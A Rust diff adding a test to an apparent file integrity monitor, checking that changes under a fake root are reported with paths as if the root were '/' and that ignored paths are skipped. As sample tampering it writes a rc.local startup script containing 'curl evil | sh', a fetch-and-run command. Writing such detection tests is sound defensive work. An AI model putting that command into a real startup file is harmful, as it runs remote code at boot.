@@ -303,3 +303,30 @@ fn baseline_holds_ten_thousand_files_in_little_memory() {
         baseline.heap_bytes()
     );
 }
+
+#[test]
+fn a_tree_under_root_is_reported_as_if_root_were_slash() {
+    let (dir, root, state) = tree();
+    let mut fim = FimSource::start(
+        FimConfig {
+            paths: vec![PathBuf::from("/etc")],
+            ignore: vec!["/etc/sub".into()],
+            root: Some(root.clone()),
+            ..config(&root)
+        },
+        Some(state),
+        Arc::new(Counters::default()),
+    )
+    .expect("start fim");
+    let _ = poll_for(&mut fim, 0, Duration::ZERO);
+    std::fs::write(root.join("etc/rc.local"), b"#!/bin/sh\ncurl evil | sh\n").expect("write");
+    std::fs::write(root.join("etc/sub/conf"), b"a=2\n").expect("write");
+    let events = poll_for(&mut fim, 1, Duration::from_secs(5));
+    find(&events, Path::new("/etc/rc.local"), "modified");
+    assert!(
+        !events.iter().any(|e| e.body["path"]
+            .as_str()
+            .is_some_and(|p| p.contains("sub") || p.starts_with(&*dir.path().to_string_lossy()))),
+        "ignored or unstripped path reported: {events:#?}"
+    );
+}
